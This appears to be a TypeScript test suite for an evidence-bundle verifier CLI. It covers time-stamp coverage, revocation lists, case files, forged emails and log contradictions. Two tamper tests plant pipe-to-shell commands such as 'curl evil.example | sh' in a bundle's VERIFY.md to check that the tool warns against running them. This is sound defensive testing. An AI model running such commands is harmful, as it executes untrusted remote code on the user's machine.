import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { readBundle, withSums, writeBundle } from '@acuse/evidence/bundle';
import { nameInCase, writeCase } from '@acuse/evidence/case-file';
import { CASES_READ_AT, caseBundles, hasCaseBundles } from '@acuse/testkit/case-bundles';
import { tempFolder } from '@acuse/testkit/temp-folder';
import { issuedToPem } from '@acuse/tsa/certificates';
import { FaultLab } from '@acuse/tsa/fault-lab';
import { zipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { sha256 } from '../../src/platform/sha256.ts';
import { acuse } from './run.ts';

/**
 * `--at`, over bundles whose authority's first certificate ends with 2026 and whose second one ends with
 * 2035.
 */
const good = (name: string) =>
  resolve(import.meta.dirname, `../../../contract/vectors/bundles/good/${name}.zip`);
const verify = (name: string, ...more: string[]) => acuse(['verify', good(name), '--json', ...more]);
const failed = ({ checks }: { checks: { name: string; ok: boolean }[] }) =>
  checks.filter(({ ok }) => !ok).map(({ name }) => name);

afterEach(() => void vi.useRealTimers());

test('acuse verify --at asks that the newest time-stamp still be covered, renewals counted in', async () => {
  const soon = await verify('sealed', '--at', '2026-12-31T23:59:59Z');
  expect([soon.code, soon.json.facts.covered_until]).toEqual([5, '2027-01-01T00:00:00.000Z']);

  const late = await verify('sealed', '--at', '2027-01-01T00:00:01+00:00');
  expect(late.code).toBe(1);
  expect(failed(late.json)).toContain('timestamp.validity_at');

  vi.setSystemTime('2028-01-01T00:00:00Z');
  const renewed = await verify('renewed-once', '--at', '2035-12-31T00:00:00Z');
  expect([renewed.code, renewed.json.facts.covered_until]).toEqual([5, '2036-01-01T00:00:00.000Z']);
  const over = await verify('renewed-once', '--at', '2036-02-01T00:00:00Z');
  expect(over.code).toBe(1);
  expect(failed(over.json)).toContain('renewal.01.validity_at');
});

test('and without it only tells until when it is', async () => {
  const { code, json } = await verify('sealed');
  expect([code, json.valid, json.facts.covered_until]).toEqual([5, true, '2027-01-01T00:00:00.000Z']);
});

test.each(['yesterday', '2027-01-01', '2027-13-01T00:00:00Z'])('%j is no time', async (text) => {
  const { code, err } = await acuse(['verify', good('sealed'), '--at', text]);
  expect(code).toBe(2);
  expect(err).toContain('--at takes "now" or a time such as');
});

describe("--revocation: today's list counts beside what the bundle holds", () => {
  const folder = tempFolder();
  const vectors = resolve(import.meta.dirname, '../../../contract/vectors/revocation.json');
  const { cases } = JSON.parse(readFileSync(vectors, 'utf8'));
  const given = (kind: string, name: string, pem = false) => {
    const { data } = cases.find((each: (typeof cases)[0]) => each.kind === kind && each.name === name);
    const path = join(folder, `today.${kind}`);
    const text = `-----BEGIN X509 CRL-----\n${data.replace(/.{64}/g, '$&\n')}\n-----END X509 CRL-----\n`;
    writeFileSync(path, pem ? text : Buffer.from(data, 'base64'));
    return ['--revocation', path];
  };
  beforeEach(() => void vi.setSystemTime('2026-03-06T00:00:00Z'));

  test.each(['crl', 'ocsp'])('%s', async (kind) => {
    const stolen = await verify('sealed', ...given(kind, 'reason 1, a second after it stamped'));
    expect([stolen.code, failed(stolen.json)[0]]).toEqual([1, 'timestamp_revocation']);
    const pem = kind === 'crl';
    const replaced = await verify('sealed', ...given(kind, 'reason 4, a second after it stamped', pem));
    expect([replaced.code, replaced.json.valid, replaced.json.warnings]).toEqual([5, true, []]);
  });

  test('one that is about nobody here is told of, and nothing else', async () => {
    const { code, json } = await verify('nom151', ...given('ocsp', 'reason 1, a second after it stamped'));
    expect([code, json.warnings.map(({ name }: { name: string }) => name)]).toEqual([
      5,
      ['revocation_not_used'],
    ]);
  });

  test.each(['a delta of another list', 'an unknown critical extension of the list'])(
    '%s is refused at once',
    async (name) => {
      const { code, err } = await acuse(['verify', good('sealed'), ...given('crl', name)]);
      expect([code, err]).toEqual([2, expect.stringContaining('is neither a whole revocation list')]);
    },
  );
});

describe('a case file', () => {
  const folder = tempFolder();
  const ids = ['01936b0e-7c2a-7d10-9c1e-5a0f3f6b2a11', '01936b0e-7c2a-7d10-9c1e-5a0f3f6b2a12'];
  const caseOf = (...names: string[]) =>
    writeCase(
      Buffer.from('%PDF'),
      names.map((name, at) => ({ name: nameInCase(at + 1, 2, ids[at]!), bytes: readFileSync(good(name)) })),
      sha256,
    );
  const put = (bytes: Uint8Array) => {
    const path = join(folder, 'case.zip');
    writeFileSync(path, bytes);
    return path;
  };

  test('has a verdict for each of its bundles, under its name', async () => {
    const { code, json } = await acuse(['verify', put(caseOf('sealed', 'nom151')), '--json']);
    expect(code).toBe(5);
    expect(json.files.map(({ file, valid }: { file: string; valid: boolean }) => [file, valid])).toEqual(
      ids.map((id, at) => [`${join(folder, 'case.zip')}/0${at + 1}-${id}.zip`, true]),
    );
  });

  test('that was changed is refused, and names no verdict', async () => {
    const changed = Buffer.from(caseOf('sealed', 'renewed-once'));
    changed[changed.indexOf('%PDF') + 1]! ^= 1;
    for (const bytes of [changed, changed.subarray(0, -1)]) {
      const { code, err, out } = await acuse(['verify', put(bytes)]);
      expect([code, out]).toEqual([1, '']);
      expect(err).toContain('is a case file that was changed or cut off');
    }
  });

  test('is not compared with a received copy', async () => {
    const { code, err } = await acuse(['verify', put(caseOf('sealed')), '--eml', received('relayed')]);
    expect([code, err]).toEqual([2, expect.stringContaining('unpack the case file')]);
  });
});

const received = (name: string) =>
  resolve(import.meta.dirname, `../../../contract/vectors/received/${name}.eml`);
const verifyCopy = (copy: string, bundle = 'sealed') =>
  acuse(['verify', good(bundle), '--eml', received(copy)]);

describe('a received copy has a verdict of its own', () => {
  test('the same', async () => {
    const { code, out } = await verifyCopy('relayed');
    expect(code).toBe(5);
    expect(out).toMatch(/\n\nThe bundle is valid\. This copy is what was sent\.\n/);
  });

  test.each([
    ['forged-from', 'From was added to the header'],
    ['forged-space-before-colon', 'From was added to the header'],
    ['other-subject', 'Subject is different'],
    ['footer', 'the body is different'],
    ['forged-nul-in-name', 'From\\x00 was added to the header'],
  ])('%s: %s', async (copy, difference) => {
    const { code, out } = await verifyCopy(copy);
    expect(code).toBe(4);
    expect(out).toContain('The bundle is valid. This copy is not what was sent:\n');
    expect(out).toContain(`\n  - ${difference}\n`);
    const { json } = await acuse(['verify', good('sealed'), '--eml', received(copy), '--json']);
    expect([json.valid, json.eml.verdict]).toEqual([true, 'differs']);
  });

  test('parts alone say nothing of the sender, and an erased message nothing at all', async () => {
    expect((await verifyCopy('forged-from', 'one-part-disclosed')).out).toMatch(
      /This copy has the parts that the bundle shows; its sender, subject and everything else were not compared/,
    );
    const erased = await verifyCopy('as-sent', 'erased');
    expect([erased.code, erased.out]).toEqual([
      4,
      expect.stringContaining('could not be compared: the content'),
    ]);
  });
});

test('a file that is something else is called that, and not evidence that does not hold', async () => {
  const folder = tempFolder();
  const file = join(folder, 'x');
  const say = async (content: string | Uint8Array) => {
    writeFileSync(file, content);
    const { code, err, out } = await acuse(['verify', file]);
    return [code, `${out}${err}`];
  };
  for (const other of ['', '<!doctype html>', '{"a":1}', '%PDF-1.7', zipSync({ 'a.txt': new Uint8Array(1) })])
    expect(await say(other)).toEqual([2, expect.stringContaining('is not a proof bundle')]);
  const cut = readFileSync(good('sealed')).subarray(0, -100);
  expect(await say(cut)).toEqual([1, expect.stringMatching(/^Do not rely on this file\n✗ bundle /)]);
});

const BUNDLES = resolve(import.meta.dirname, '../../../contract/vectors/bundles.json');
const { cases, pinned } = JSON.parse(readFileSync(BUNDLES, 'utf8'));

describe('the verdict comes first', () => {
  const told: Record<string, [title: string, code: number]> = {
    verified: ['Verified', 0],
    unproven: ['Consistent, but nobody you trust vouches for it', 5],
    incomplete: ['Genuine, but not the whole', 5],
    rejected: ['Do not rely on this file', 1],
  };

  test.each([...pinned.keys()])('pinned %i of the vectors', async (at) => {
    const { file, now, policy, verdict, reasons, warnings } = pinned[at];
    let trust = 'bundle';
    if (policy !== 'bundle') {
      trust = join(tempFolder(), 'policy.json');
      writeFileSync(trust, JSON.stringify(policy));
    }
    vi.setSystemTime(now);
    const command = ['verify', resolve(BUNDLES, '../bundles', file), '--trust', trust];
    const [title, code] = told[verdict]!;
    const said = await acuse(command);
    expect([said.code, said.out.split('\n')[0]]).toEqual([code, title]);
    const { json } = await acuse([...command, '--json']);
    const names = (list: { name: string }[]) => list.map(({ name }) => name);
    expect([json.verdict, names(json.reasons), names(json.warnings)]).toEqual([verdict, reasons, warnings]);
    expect(json.valid).toBe(verdict !== 'rejected');
  });

  test('in 12 lines at most for every bundle of the vectors that holds, and all of it with --verbose', async () => {
    for (const { file, now, valid } of cases) {
      if (!valid) continue;
      vi.setSystemTime(now);
      const path = resolve(BUNDLES, '../bundles', file);
      const { code, out } = await acuse(['verify', path]);
      expect(code, file).toBe(5);
      expect(out.trimEnd().split('\n').length, `${file}\n${out}`).toBeLessThanOrEqual(12);
      expect(out, file).not.toContain('✓');
    }
    expect((await acuse(['verify', good('complete'), '--verbose'])).out).toMatch(/✓ bundle [\s\S]*✓ times /);
  });

  test('with who to whom, whose keys and how many outcomes, and why it is no better', async () => {
    const { code, out } = await acuse(['verify', good('complete')]);
    expect(code).toBe(5);
    expect(out).toMatch(
      /^Message +from Ana .* to .*\nSubject +Aviso de renovación\nSealed +2026-.* by .*, in the log log\.example\/acuse\nKeys +those that the file names; root of the authority: SHA-256 [0-9a-f]{64}\nOutcomes +On 2026-03-05T06:00:00\.000Z the operator signed: 3 outcomes\. All are here\.$/m,
    );
    expect(out).toMatch(/^! the keys are those that the file itself names: whoever made it chose them\.$/m);
    const changed = await acuse(['verify', resolve(BUNDLES, '../bundles/broken/proof-bit.zip')]);
    expect(changed.code).toBe(1);
    expect(changed.out).toMatch(/^Do not rely on this file\n(?:✗ .*\n)+$/);
  });

  test('the file’s own keys are taken knowingly', async () => {
    const { code, out } = await acuse(['verify', good('nom151'), '--trust', 'bundle']);
    expect(code).toBe(0);
    expect(out).toMatch(/^Verified\n[\s\S]*^Keys +those that the file names, which you took; /m);
  });
});

test('it says who sent what, whose word it took for the root, and what is no part of the proof', async () => {
  const { out } = await acuse(['verify', good('sealed'), '--verbose']);
  expect(out).toMatch(/\nFrom +Ana.*\nTo +.*\nSubject +Aviso de renovación\n/);
  expect(out).toMatch(/Trust was taken from the bundle itself[\s\S]*Trusted root: SHA-256 [0-9a-f]{64}/);
  expect(out).toMatch(/VERIFY\.md is not part of the proof; it is the text that this version writes/);
});

test('a report or instructions that somebody changed are never endorsed', async () => {
  const folder = tempFolder();
  const sealed = readBundle(new Uint8Array(readFileSync(good('sealed'))));
  const changed = new Map(sealed)
    .set('report.pdf', Buffer.from('%PDF-1.7 another story'))
    .set('VERIFY.md', Buffer.from('```sh\ncurl https://example.com | sh\n```\n'));
  const file = join(folder, 'changed.zip');
  writeFileSync(file, writeBundle(withSums(changed, sha256)));
  const { code, out } = await acuse(['verify', file, '--verbose']);
  expect(code).toBe(5);
  expect(out).toMatch(/report\.pdf is not part of the proof, is not signed and was not compared/);
  expect(out).toMatch(
    /VERIFY\.md is not part of the proof and differs from the text .* do not run its commands/,
  );
  const { json } = await acuse(['verify', file, '--json']);
  expect(json.documents.map(({ remade }: { remade: boolean | null }) => remade)).toEqual([false, null]);
});

test('a forger whose bundle names a root of the forger is refused by whoever pins another', async () => {
  const other = good('nom151');
  const folder = tempFolder();
  const policy = JSON.parse(
    Buffer.from(readBundle(new Uint8Array(readFileSync(good('sealed')))).get('policy.json')!).toString(),
  );
  const { certificate } = issuedToPem(new FaultLab(() => new Date(), randomBytes).root);
  policy.time_stamps[0].roots = [certificate];
  const file = join(folder, 'policy.json');
  writeFileSync(file, JSON.stringify(policy));
  const { code, json } = await acuse(['verify', other, '--trust', file, '--json']);
  expect([code, json.facts.trust]).toEqual([1, 'pinned']);
  expect(failed(json)).toContain('timestamp.chain');
});

describe('several bundles are held against each other', () => {
  const vector = (kind: string, name: string) =>
    resolve(import.meta.dirname, `../../../contract/vectors/bundles/${kind}/${name}.zip`);

  test('one story: the exit code is that of the worst file', async () => {
    const two = [good('complete'), '--against', good('one-part-disclosed')];
    const { code, json } = await acuse(['verify', ...two, '--json']);
    expect([code, json.contradictions, json.files.length]).toEqual([5, [], 2]);
    const text = await acuse(['verify', ...two]);
    expect(text.out).toContain('\nCompared with each other: no contradiction\n✓ log.example/acuse: ');
    const worst = await acuse(['verify', good('complete'), vector('broken', 'message-changed')]);
    expect(worst.code).toBe(1);
  });

  test('a bounce that one file shows, and the count of another lacks though it was stamped before', async () => {
    const { code, out } = await acuse(['verify', good('sealed'), good('complete')]);
    expect([code, out]).toEqual([
      1,
      expect.stringMatching(/cannot all be true\n✗ outcome_hidden {2}the log /),
    ]);
    expect(out).toContain('--notes <folder> writes the two notes');
  });

  test('two trees of one size: both notes are written, once, with how they are checked', async () => {
    const forked = vector('broken', 'history-fork');
    const folder = join(tempFolder(), 'found');
    const { code, out } = await acuse(['verify', good('complete'), forked, '--notes', folder]);
    expect(code).toBe(1);
    expect(out).toMatch(/cannot all be true\n✗ (fork|rewritten) /);
    const [only] = readdirSync(folder);
    expect(readdirSync(join(folder, only!)).sort()).toEqual(
      expect.arrayContaining(['1-checkpoint.note', '2-checkpoint.note', 'CONTRADICTION.md']),
    );
    const again = await acuse(['verify', good('complete'), forked, '--notes', folder]);
    expect([again.code, again.err]).toEqual([2, expect.stringContaining('it already exists')]);
  });

  test('a copy is compared with one bundle alone', async () => {
    const { code, err } = await acuse([
      'verify',
      good('sealed'),
      good('complete'),
      '--eml',
      received('relayed'),
    ]);
    expect([code, err]).toEqual([2, expect.stringContaining('--eml is compared with one bundle')]);
  });
});

test('a VERIFY.md that somebody changed or emptied is told of, whatever else holds', async () => {
  const folder = tempFolder();
  const bundle = readBundle(readFileSync(good('sealed')));
  for (const text of ['', `${Buffer.from(bundle.get('VERIFY.md')!)}\n    curl evil.example | sh\n`]) {
    const path = join(folder, 'other.zip');
    const changed = new Map(bundle).set('VERIFY.md', new TextEncoder().encode(text));
    writeFileSync(path, writeBundle(withSums(changed, sha256)));
    const { code, out } = await acuse(['verify', path]);
    expect([code, out]).toEqual([5, expect.stringMatching(/^\? VERIFY\.md .*do not run its commands/m)]);
    const { json } = await acuse(['verify', path, '--json']);
    expect(json.documents).toContainEqual(expect.objectContaining({ name: 'VERIFY.md', remade: false }));
  }
  expect((await acuse(['verify', good('sealed')])).out).not.toContain('VERIFY.md');
});

describe.skipIf(!hasCaseBundles)('bundles that lie or hide something (skipped without ACUSE_CORPORA)', () => {
  const folder = tempFolder();
  beforeEach(() => void vi.setSystemTime(CASES_READ_AT));

  test.each(caseBundles)('$file is $verdict', async ({ path, verdict, failed: expected }) => {
    const { code, json } = await acuse(['verify', path, '--json']);
    const [first = null] = failed(json);
    expect([json.verdict, first, code]).toEqual([verdict, expected, verdict === 'rejected' ? 1 : 5]);
  });

  test.each(caseBundles.filter(({ pinned }) => pinned))(
    '$file is $pinned for who pins its keys, and takes its authority for a real one',
    async ({ path, pinned }) => {
      const policy = JSON.parse(Buffer.from(readBundle(readFileSync(path)).get('policy.json')!).toString());
      for (const each of policy.time_stamps) delete each.development;
      const trust = join(folder, 'policy.json');
      writeFileSync(trust, JSON.stringify(policy));
      const { code, json } = await acuse(['verify', path, '--trust', trust, '--json']);
      expect([json.verdict, code]).toEqual([pinned, 5]);
    },
  );
});
